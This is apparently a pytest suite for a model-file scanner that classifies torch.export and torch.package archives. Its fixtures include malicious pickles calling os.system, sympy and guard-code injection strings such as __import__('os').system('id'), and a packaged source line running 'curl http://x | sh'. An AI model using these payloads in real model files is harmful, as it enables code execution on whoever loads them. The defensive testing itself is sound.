"""torch.export and torch.package: graphs, expressions that sympy evaluates, pickled parts, native code, sources."""

import io
import json
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from modelward.artifact.verdict import inspect, inspect_bytes

GOOD = b"\x80\x02}q\x00X\x01\x00\x00\x00aK\x01s."
SYSTEM = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R."


def zipped(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for name, content in members.items():
            file.writestr(name, content)
    return buffer.getvalue()


def torch_zip(pickle):
    return zipped({"archive/data.pkl": pickle, "archive/version": b"3\n"})


def graph(target="torch.ops.aten.relu.default", expression="Symbol('s0', positive=True, integer=True)"):
    node = {
        "target": target,
        "inputs": [{"name": "x", "arg": {"as_tensor": {"name": "x"}}, "kind": 1}],
        "outputs": [],
    }
    sizes = [{"as_expr": {"expr_str": expression, "hint": None}}]
    return json.dumps(
        {"graph_module": {"graph": {"nodes": [node], "tensor_values": {"x": {"sizes": sizes}}}}}
    ).encode()


def package(**changes):
    members = {
        "m/archive_format": b"pt2",
        "m/archive_version": b"0",
        "m/models/model.json": graph(),
        "m/data/weights/weight_0": bytes(16),
    }
    return zipped(members | {f"m/{name}": content for name, content in changes.items()})


def judged(**options):
    return inspect_bytes(package(**{"models/model.json": graph(**options)}), "m.pt2")


def rules(report):
    return {finding.rule for finding in report.findings if finding.severity != "info"}


@pytest.mark.parametrize("target", [
    "torch.ops.aten.conv2d.default", "torch.ops.higher_order.cond", "_operator.mul", "math.trunc", "torch.sym_max", "torch.ops.torchvision.nms.default",
    "torch._sym_sqrt", "_operator.getitem", "torch.ops.quantized_decomposed.quantize_per_tensor.default",
])  # fmt: skip
def test_targets_that_compute_are_inert(target):
    report = judged(target=target)
    assert (report.format, report.verdict) == ("torch-export", "inert")
    assert report.facts["operators"] == [target]


@pytest.mark.parametrize(
    "target",
    [
        "os.system",
        "builtins.eval",
        "torch.os.system",
        "subprocess.Popen",
        "torch.hub.load",
        "builtins.exec",
        "torch.serialization.os.system",
        "_operator.methodcaller",
        "_operator.call",
    ],
)
def test_targets_that_run_anything_are_dangerous(target):
    assert judged(target=target).verdict == "dangerous"


@pytest.mark.parametrize(
    "target",
    [
        "torch.ops.mylib.run.default",
        "my.module.run",
        "#ns:op",
        "torch.ops.aten.from_file.default",
        "_operator.index_of",
        "x",
    ],
)
def test_unknown_targets_are_unproven(target):
    assert judged(target=target).verdict == "unproven"


@pytest.mark.parametrize("expression", [
    "s0", "2*s0 + 1", "Mul(Integer(2), Symbol('s77', positive=True, integer=True))", "FloorDiv(Symbol('s77', positive=True, integer=True), Integer(2))",
    "Max(1, s0)", "Eq(s0, 2) & (s1 <= 3)", "s0**2", "Mod(s0, 3) / 2.5",
])  # fmt: skip
def test_arithmetic_is_inert(expression):
    assert judged(expression=expression).verdict == "inert"


@pytest.mark.parametrize("expression", [
    "__import__('os').system('id')", "().__class__.__bases__[0].__subclasses__()", "eval('1')", "getattr(s0, 'x')", "(lambda: 0)()", "exec('x')", "os.system('id')",
])  # fmt: skip
def test_expressions_that_hold_code_are_dangerous(expression):
    report = judged(expression=expression)
    assert (report.verdict, rules(report)) == ("dangerous", {"torch-export.expression"})


@pytest.mark.parametrize(
    "expression",
    [
        "preview(s0)",
        "s0.evalf()",
        "[s0]",
        "'text with spaces'",
        "s0 if s1 else 2; s0",
        "lambdify(s0)",
        "Symbol('a b')",
    ],
)
def test_other_expressions_are_unproven(expression):
    assert judged(expression=expression).verdict == "unproven"


@pytest.mark.parametrize(
    "name",
    [
        "data/sample_inputs/model.pt",
        "data/weights/model.pt",
        "serialized_state_dict.pt",
        "data/constants/custom_obj_0",
        "data/constants/tensor_0",
    ],
)
def test_pickled_parts_are_walked(name):
    assert inspect_bytes(package(**{name: torch_zip(GOOD)}), "m").verdict == "inert"
    assert inspect_bytes(package(**{name: torch_zip(SYSTEM)}), "m").verdict == "dangerous"
    assert inspect_bytes(package(**{name: SYSTEM}), "m").verdict == "dangerous"


def test_weights_that_the_configuration_says_are_pickled():
    config = json.dumps({"config": {"w": {"path_name": "weight_0", "use_pickle": True}}}).encode()
    protocol0 = b"N0N0(S'id'\nios\nsystem\n."
    for content, verdict in ((protocol0, "dangerous"), (bytes(16), "unproven"), (GOOD, "inert")):
        data = package(**{"data/weights/model_weights_config.json": config, "data/weights/weight_0": content})
        assert inspect_bytes(data, "m").verdict == verdict
    assert inspect_bytes(package(**{"data/constants/opaque_obj_0": protocol0}), "m").verdict == "dangerous"


@pytest.mark.parametrize(
    "name", ["data/aotinductor/model/x.so", "data/aotinductor/model/x.cpp", "data/extra/x.cubin"]
)
def test_native_code_is_unproven(name):
    report = inspect_bytes(package(**{name: b"\x7fELF\x02" + bytes(60)}), "m")
    assert (report.verdict, rules(report)) == ("unproven", {"torch-export.native"})


def test_native_code_under_another_name_and_alone():
    assert inspect_bytes(package(**{"data/extra/x": b"\x7fELF\x02" + bytes(60)}), "m").verdict == "unproven"
    report = inspect_bytes(b"\x7fELF\x02\x01\x01" + bytes(60), "model.bin")
    assert (report.format, report.verdict) == ("native-code", "unproven")


def test_the_layout_of_before():
    members = {
        "serialized_exported_program.json": graph("os.system"),
        "serialized_state_dict.pt": torch_zip(GOOD),
        "version": b"8.1",
    }
    report = inspect_bytes(zipped(members), "m.pt2")
    assert (report.format, report.verdict) == ("torch-export", "dangerous")
    members["serialized_exported_program.json"] = graph()
    assert inspect_bytes(zipped(members), "m.pt2").verdict == "inert"


def test_a_damaged_graph_is_listed():
    report = inspect_bytes(package(**{"models/model.json": b"{"}), "m")
    assert report.verdict == "unproven"
    assert "m/models/model.json" in report.coverage.unread[0]


@pytest.mark.filterwarnings("ignore")
def test_what_torch_writes_is_inert(tmp_path):
    torch = pytest.importorskip("torch", reason="the library that writes these files")
    nn = torch.nn

    class Branch(nn.Module):
        def forward(self, x):
            return torch.cond(x.sum() > 0, lambda x: x + 1, lambda x: x - 1, (x,))

    class Shapes(nn.Module):
        def forward(self, x):
            return x.view(x.shape[0] * 2, -1) + x.shape[0] // 2

    batch = torch.export.Dim("b", min=2)
    cases = [
        (nn.Sequential(nn.Conv2d(3, 4, 3), nn.BatchNorm2d(4), nn.ReLU()).eval(), torch.rand(1, 3, 8, 8), None), (nn.LSTM(4, 4), torch.rand(3, 1, 4), None),
        (Branch(), torch.rand(3), None), (Shapes(), torch.rand(4, 2), ({0: batch},)), (nn.TransformerEncoderLayer(4, 2, 8).eval(), torch.rand(3, 1, 4), None),
    ]  # fmt: skip
    for index, (module, example, dynamic) in enumerate(cases):
        torch.export.save(
            torch.export.export(module, (example,), dynamic_shapes=dynamic), tmp_path / f"{index}.pt2"
        )
        report = inspect(tmp_path / f"{index}.pt2")
        assert (index, report.format, report.verdict) == (index, "torch-export", "inert")


# --- torch.package ------------------------------------------------------------------------------------------


def shipped(source, **more):
    return zipped(
        {
            "p/.data/extern_modules": b"torch\nos\n",
            "p/.data/version": b"1\n",
            "p/mymod.py": source,
            "p/model/model.pkl": GOOD,
        }
        | more
    )


def test_sources_of_a_package():
    plain = inspect_bytes(shipped(b"import torch\nclass Net(torch.nn.Module):\n    pass\n"), "m")
    assert (plain.format, plain.verdict, rules(plain)) == ("torch-package", "unproven", {"shipped.source"})
    evil = inspect_bytes(shipped(b"import os\nos.system('curl http://x | sh')\n"), "m")
    assert (evil.verdict, rules(evil)) == ("dangerous", {"shipped.payload"})


def test_pickles_of_a_package():
    assert inspect_bytes(shipped(b"", **{"p/model/x.pkl": SYSTEM}), "m").verdict == "dangerous"
    assert inspect_bytes(shipped(b""), "m").verdict == "inert"


@pytest.mark.filterwarnings("ignore")
def test_a_real_package(tmp_path):
    torch = pytest.importorskip("torch", reason="the library that writes these files")
    with torch.package.PackageExporter(tmp_path / "p.pt") as file:
        file.extern("**")
        file.save_pickle("model", "model.pkl", {"w": torch.ones(2)})
    report = inspect(tmp_path / "p.pt")
    assert (report.format, report.verdict) == ("torch-package", "inert")


@given(st.text(max_size=60), st.text(max_size=60), st.binary(max_size=80))
def test_any_graph_gives_a_verdict(target, expression, weight):
    data = package(**{"models/model.json": graph(target, expression), "data/constants/opaque_obj_0": weight})
    assert inspect_bytes(data, "m").verdict in {"inert", "unproven", "dangerous"}


BAD = "__import__('os').system('id')"


@pytest.mark.parametrize("root", ["m", ".m", "M"])
@pytest.mark.parametrize(
    "name", ["models/model.json", "models/model.jsox", "MODELS/model.json", "models/a/b.json", "models/x"]
)
def test_every_model_of_the_archive_is_read(root, name):
    members = {"archive_format": b"pt2", "archive_version": b"0", name: graph(expression=BAD)}
    report = inspect_bytes(zipped({f"{root}/{key}": content for key, content in members.items()}), "m.pt2")
    assert (report.format, report.verdict, rules(report)) == (
        "torch-export",
        "dangerous",
        {"torch-export.expression"},
    )


def guarded(code):
    tree = json.loads(graph()) | {"guards_code": [code]}
    return inspect_bytes(package(**{"models/model.json": json.dumps(tree).encode()}), "m.pt2")


@pytest.mark.parametrize("code", [
    "L['x'].size()[0] >= 2", "L['args'][0].size()[1] == 3", "Eq(Mod(L['x'].size()[0], 2), 0)", "2*L['x'].size()[0] < L['y'].size()[0]",
    "L['flat_args'][0].stride()[-1] == 4", "L['k'] == 3", "math.isnan(L['k'])", "(L['y'].size()[0] // 2) > L['x'].size()[0]",  "L['x'].size()[0] % 2 == 0 and True",
])  # fmt: skip
def test_guards_that_compare_are_inert(code):
    assert (guarded(code).verdict, rules(guarded(code))) == ("inert", set())


@pytest.mark.parametrize(
    "code", [f"[{BAD}]", "eval(L['x'])", "(lambda: 0)()", "open(L['x'])", "getattr(L, 'x')"]
)
def test_guards_are_compiled_as_python(code):
    assert (guarded(code).verdict, rules(guarded(code))) == ("dangerous", {"torch-export.guard"})


@pytest.mark.parametrize("code", ["L['x'].tofile(L['y'])", "f(L['x'])", "[y for y in L]"])
def test_other_guards_are_unproven(code):
    assert (guarded(code).verdict, rules(guarded(code))) == ("unproven", {"torch-export.guard"})


@pytest.mark.parametrize(("context", "verdict"), [
    ({"__enum__": True, "fqn": "antigravity:x", "name": "y"}, "dangerous"), ({"__enum__": True, "fqn": "mine:Kind", "name": "y"}, "unproven"),
    ({"default_factory_module": "os", "default_factory_name": "system", "dict_context": []}, "dangerous"),
    ({"default_factory_module": "mine", "default_factory_name": "Thing", "dict_context": []}, "unproven"),
    ({"default_factory_module": "builtins", "default_factory_name": "list", "dict_context": []}, "inert"),
    (["a", "b"], "inert"), (None, "inert"),
])  # fmt: skip
@pytest.mark.parametrize("wrap", [lambda context: context, json.dumps])
def test_what_specifications_of_trees_import(context, verdict, wrap):
    spec = json.dumps([1, {"type": "builtins.dict", "context": wrap(context), "children_spec": []}])
    tree = json.loads(graph()) | {"module_call_graph": [{"signature": {"in_spec": spec}}]}
    report = inspect_bytes(package(**{"models/model.json": json.dumps(tree).encode()}), "m.pt2")
    assert report.verdict == verdict
    assert rules(report) == (set() if verdict == "inert" else {"torch-export.import"})


@pytest.mark.parametrize(
    "path", ["opaque_obj_0", "opaque_obj_x/y", "custom_obj/0", "weight_1", "a/weight_2", "WEIGHT_3"]
)
def test_pickled_parts_are_found_by_their_path(path):
    entry = {"path_name": path, "is_param": False, "use_pickle": True, "tensor_meta": None}
    hidden = b"S'" + b"a" * 30 + b"'\n0(S'id'\nios\nsystem\n."
    report = inspect_bytes(package(**{
        "data/constants/model_constants_config.json": json.dumps({"config": {"c": entry}}).encode(),
        f"data/constants/{path.lower()}": hidden,
    }), "m.pt2")  # fmt: skip
    assert report.verdict == "dangerous"
